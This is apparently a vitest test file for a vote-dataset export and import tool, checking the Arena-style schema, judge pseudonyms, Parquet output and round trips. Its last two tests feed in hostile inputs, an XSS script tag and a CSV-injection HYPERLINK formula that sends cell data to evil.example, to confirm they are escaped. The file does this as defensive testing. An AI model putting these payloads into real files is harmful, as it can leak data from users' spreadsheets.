import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects, parquetSchema } from "hyparquet";
import { beforeAll, describe, expect, it } from "vitest";
import { db, pool } from "@/lib/db";
import { DEFAULT_FILTERS } from "@/lib/results/filters";
import { csvObjects } from "@/lib/testing/csv-objects";
import { ratingsJson } from "@/lib/ratings/leaderboard";
import { getLeaderboard } from "@/lib/results/leaderboard";
import { createTestCampaign } from "@/lib/testing/factories";
import { createResultsCampaign } from "@/lib/testing/results-campaign";
import { exportVotes } from "./export-votes";
import { importVotes } from "./import-votes";
import type { ExportFormat } from "./write-formats";

const dir = mkdtempSync(join(tmpdir(), "hikaku-datasets-"));

async function exportToFile(campaign: { id: string; slug: string }, format: ExportFormat, name = `${campaign.slug}.${format}`) {
  const chunks: Uint8Array[] = [];
  for await (const chunk of exportVotes(null, campaign, DEFAULT_FILTERS, format, "cli").chunks) chunks.push(chunk);
  const path = join(dir, name);
  writeFileSync(path, Buffer.concat(chunks));
  return path;
}

const jsonLines = (path: string) =>
  readFileSync(path, "utf8")
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as Record<string, unknown>);

async function boardOf(campaignId: string) {
  const view = await getLeaderboard(campaignId, DEFAULT_FILTERS, { untilFresh: true });
  if (view.state !== "ready") throw new Error(view.state);
  return ratingsJson(view.board).models;
}

describe("vote datasets", () => {
  let source: Awaited<ReturnType<typeof createResultsCampaign>>;
  let original: Record<string, unknown>[];
  beforeAll(async () => {
    source = await createResultsCampaign();
    original = jsonLines(await exportToFile(source.campaign, "jsonl"));
  }, 120_000);

  it("export every vote in the Chatbot Arena schema, with the conversations that were shown", async () => {
    expect(original).toHaveLength(await db.vote.count({ where: { campaignId: source.campaign.id } }));
    const row = original.find((r) => r.corrected_answer)!;
    expect(Object.keys(row)).toEqual([
      "question_id",
      "model_a",
      "model_b",
      "winner",
      "judge",
      "conversation_a",
      "conversation_b",
      "turn",
      "anony",
      "language",
      "tstamp",
      "outcome",
      "reason",
      "corrected_answer",
      "identity_leak",
      "duration_ms",
      "category",
    ]);
    const question = Number(String(row.question_id).slice(1));
    expect(row.conversation_a).toEqual([
      { role: "user", content: `Question ${question}?` },
      { role: "assistant", content: `Answer ${source.models.indexOf(String(row.model_a))} to question ${question}` },
    ]);
    expect(row.conversation_b).toEqual([
      { role: "user", content: `Question ${question}?` },
      { role: "assistant", content: `Answer ${source.models.indexOf(String(row.model_b))} to question ${question}` },
    ]);
    expect(row).toMatchObject({ turn: 1, anony: true, language: "ja", category: question < 4 ? "math" : "writing" });
    expect(original.filter((r) => r.identity_leak === true)).toHaveLength(1);
    const winners = new Map(original.map((r) => [r.outcome, r.winner]));
    expect(Object.fromEntries(winners)).toEqual({
      left: "model_a",
      right: "model_b",
      tie: "tie",
      both_bad: "tie (bothbad)",
      both_good: "tie",
    });
    const stored = await db.vote.findFirstOrThrow({
      where: { campaignId: source.campaign.id },
      orderBy: [{ createdAt: "asc" }, { seq: "asc" }],
    });
    expect(original[0].tstamp).toBe(stored.createdAt.getTime() / 1000);
    expect(original[0].duration_ms).toBe(stored.durationMs);
  });

  it("give judges stable pseudonyms that differ between campaigns and never an e-mail address or user id", async () => {
    const again = jsonLines(await exportToFile(source.campaign, "jsonl", "again.jsonl"));
    expect(again.map((r) => r.judge)).toEqual(original.map((r) => r.judge));
    expect(new Set(original.map((r) => r.judge)).size).toBe(3);
    for (const judge of new Set(original.map((r) => r.judge))) expect(judge).toMatch(/^judge_[0-9a-f]{12}$/);
    // The same annotator in another campaign gets another pseudonym.
    const other = await createResultsCampaign();
    await db.campaignMember.create({ data: { campaignId: other.campaign.id, userId: source.annotators[0].id } });
    const inOther = jsonLines(await exportToFile(other.campaign, "jsonl"));
    expect(new Set(inOther.map((r) => r.judge)).size).toBe(3);
    for (const judge of new Set(original.map((r) => r.judge))) expect(inOther.map((r) => r.judge)).not.toContain(judge);
    for (const format of ["csv", "jsonl", "parquet"] as const) {
      const bytes = readFileSync(await exportToFile(source.campaign, format, `grep.${format}`)).toString("latin1");
      for (const annotator of source.annotators) {
        expect(bytes, format).not.toContain(annotator.email);
        expect(bytes, format).not.toContain(annotator.id);
      }
      expect(bytes, format).not.toMatch(/@example\.test/);
    }
  });

  it("write Parquet with nested conversation types that another library reads back", async () => {
    const path = await exportToFile(source.campaign, "parquet");
    const file = await asyncBufferFromFile(path);
    const metadata = await parquetMetadataAsync(file);
    expect(metadata.created_by).toBe("Hikaku");
    const schema = parquetSchema(metadata);
    const field = (name: string) => schema.children.find((c) => c.element.name === name)!;
    expect(schema.children.map((c) => c.element.name)).toEqual(Object.keys(original[0]));
    expect(field("conversation_a").element.converted_type).toBe("LIST");
    const element = field("conversation_a").children[0].children[0];
    expect(element.children.map((c) => [c.element.name, c.element.type, c.element.converted_type])).toEqual([
      ["content", "BYTE_ARRAY", "UTF8"],
      ["role", "BYTE_ARRAY", "UTF8"],
    ]);
    expect(
      [field("turn"), field("tstamp"), field("anony"), field("identity_leak"), field("duration_ms")].map((f) => f.element.type),
    ).toEqual(["INT32", "DOUBLE", "BOOLEAN", "BOOLEAN", "INT32"]);
    const rows = await parquetReadObjects({ file });
    expect(rows).toHaveLength(original.length);
    expect(rows.map((r) => ({ ...r }))).toEqual(original);
  });

  it.each(["csv", "jsonl", "parquet"] as const)(
    "round-trip through %s: imported into a new campaign, the same votes and the same leaderboard",
    async (format) => {
      const path = await exportToFile(source.campaign, format, `roundtrip.${format}`);
      const target = await createTestCampaign();
      const summary = await importVotes(null, target.id, { path, format });
      expect(summary).toMatchObject({ rows: original.length, votesAdded: original.length, votesKept: 0, duplicateRows: 0 });
      const reexported = jsonLines(await exportToFile({ id: target.id, slug: target.slug }, "jsonl", `re-${format}.jsonl`));
      expect(reexported).toEqual(original);
      expect(await boardOf(target.id)).toEqual(await boardOf(source.campaign.id));
      const imported = await db.vote.findFirstOrThrow({ where: { campaignId: target.id } });
      expect(imported).toMatchObject({ assignmentId: null, annotatorId: null, promptId: null });
      expect(imported.importKey).toBeTruthy();
      // Importing the same file again changes nothing.
      expect(await importVotes(null, target.id, { path, format })).toMatchObject({ votesAdded: 0, votesKept: original.length });
      expect(await db.vote.count({ where: { campaignId: target.id } })).toBe(original.length);
    },
  );

  it.each(["csv", "parquet"] as const)("leaves the database usable when a reader stops in the middle of a %s export", async (format) => {
    const big = await createTestCampaign();
    const rows = ["model_a,model_b,winner,judge,tstamp"];
    for (let i = 0; i < 30_000; i++) rows.push(`m${i % 7},m${(i % 7) + 1},model_a,j${i % 9},${1_700_000_000 + i}`);
    writeFileSync(join(dir, "many.csv"), rows.join("\n"));
    await importVotes(null, big.id, { path: join(dir, "many.csv"), format: "csv" });
    const { chunks } = exportVotes(null, { id: big.id, slug: big.slug }, DEFAULT_FILTERS, format, "api");
    // The first bytes only: the export is still running inside its transaction.
    await chunks.next();
    await chunks.next();
    await chunks.return(undefined);
    const { rows: open } = await pool().query<{ n: number }>(
      `SELECT count(*)::int AS n FROM pg_stat_activity WHERE datname = current_database() AND state IN ('idle in transaction', 'active') AND query LIKE '%"Vote"%' AND pid <> pg_backend_pid()`,
    );
    expect(open[0].n).toBe(0);
    const audit = await db.auditEvent.findFirst({ where: { action: "votes.exported", subjectId: big.id }, orderBy: { id: "desc" } });
    expect(audit?.data).toMatchObject({ format, via: "api", complete: false });
    let lines = 0;
    for await (const chunk of exportVotes(null, { id: big.id, slug: big.slug }, DEFAULT_FILTERS, "jsonl", "cli").chunks) {
      lines += Buffer.from(chunk).toString("utf8").split("\n").length - 1;
    }
    expect(lines).toBe(30_000);
  });

  it("carry every character of hostile text unchanged through CSV, JSON Lines and Parquet", async () => {
    // Control characters (COPY's JSON Lines quote and delimiter among them), quotes, backslashes,
    // line breaks, right-to-left overrides, astral-plane characters and an HTML fragment.
    const hostile = [
      'say "hi" \\ back\\slash',
      "line\nbreak\r\nand\ttab",
      "\u0001\u0002\u001f controls",
      "\u202eevil\u202c 🎌 日本語",
      "<script>alert(1)</script>, comma",
    ];
    const target = await createTestCampaign();
    const file = join(dir, "hostile.jsonl");
    writeFileSync(
      file,
      hostile
        .map((text, i) =>
          JSON.stringify({
            question_id: `q-${text}`,
            model_a: "hostile-a",
            model_b: "hostile-b",
            winner: "model_a",
            judge: `j${i}`,
            tstamp: 1_700_000_000 + i,
            reason: text,
            corrected_answer: `${text}!`,
            conversation_a: [
              { role: "user", content: text },
              { role: "assistant", content: text.toUpperCase() },
            ],
            category: text,
          }),
        )
        .join("\n"),
    );
    await importVotes(null, target.id, { path: file, format: "jsonl" });
    const campaign = { id: target.id, slug: target.slug };
    const fromJsonl = jsonLines(await exportToFile(campaign, "jsonl", "hostile.jsonl.out"));
    const fromCsv = csvObjects(readFileSync(await exportToFile(campaign, "csv", "hostile.csv"), "utf8"));
    const parquetRows = await parquetReadObjects({
      file: await asyncBufferFromFile(await exportToFile(campaign, "parquet", "hostile.parquet")),
    });
    expect(fromJsonl.map((row) => row.reason)).toEqual(hostile);
    hostile.forEach((text, i) => {
      const json = fromJsonl[i];
      expect([json.question_id, json.corrected_answer, json.category]).toEqual([`q-${text}`, `${text}!`, text]);
      expect(json.conversation_a).toEqual([
        { role: "user", content: text },
        { role: "assistant", content: text.toUpperCase() },
      ]);
      const csv = fromCsv[i];
      expect([csv.reason, csv.corrected_answer, csv.category, JSON.parse(csv.conversation_a)]).toEqual([
        text,
        `${text}!`,
        text,
        json.conversation_a,
      ]);
      // hyparquet reads a null list as undefined.
      expect({ ...parquetRows[i], conversation_b: parquetRows[i].conversation_b ?? null }).toEqual(json);
    });
  });

  it("write text that a spreadsheet would run as a formula with a leading ' in CSV, and as it is in JSON Lines and Parquet", async () => {
    // OWASP's CSV injection: a cell starting with =, +, -, @, a tab or a carriage return.
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "plain - text"];
    const target = await createTestCampaign();
    const file = join(dir, "formulas.jsonl");
    writeFileSync(
      file,
      formulas
        .map((text, i) =>
          JSON.stringify({
            question_id: text,
            model_a: `=model-a-${i}`,
            model_b: "model-b",
            winner: "tie",
            // Imported judges that look like an e-mail address are pseudonymised: this one never does.
            judge: `=judge-${i}`,
            tstamp: 1_700_000_000 + i,
            reason: text,
            corrected_answer: text,
            category: text,
          }),
        )
        .join("\n"),
    );
    await importVotes(null, target.id, { path: file, format: "jsonl" });
    const campaign = { id: target.id, slug: target.slug };
    const fromCsv = csvObjects(readFileSync(await exportToFile(campaign, "csv", "formulas.csv"), "utf8"));
    const fromJsonl = jsonLines(await exportToFile(campaign, "jsonl", "formulas.jsonl.out"));
    const parquetRows = await parquetReadObjects({
      file: await asyncBufferFromFile(await exportToFile(campaign, "parquet", "formulas.parquet")),
    });
    formulas.forEach((text, i) => {
      const csv = fromCsv[i];
      const safe = text === "plain - text" ? text : `'${text}`;
      expect([csv.question_id, csv.reason, csv.corrected_answer, csv.category]).toEqual([safe, safe, safe, safe]);
      expect([csv.model_a, csv.judge]).toEqual([`'=model-a-${i}`, `'=judge-${i}`]);
      expect([fromJsonl[i].reason, fromJsonl[i].judge, fromJsonl[i].model_a]).toEqual([text, `=judge-${i}`, `=model-a-${i}`]);
      expect([parquetRows[i].reason, parquetRows[i].judge, parquetRows[i].model_a]).toEqual([text, `=judge-${i}`, `=model-a-${i}`]);
    });
  });
});
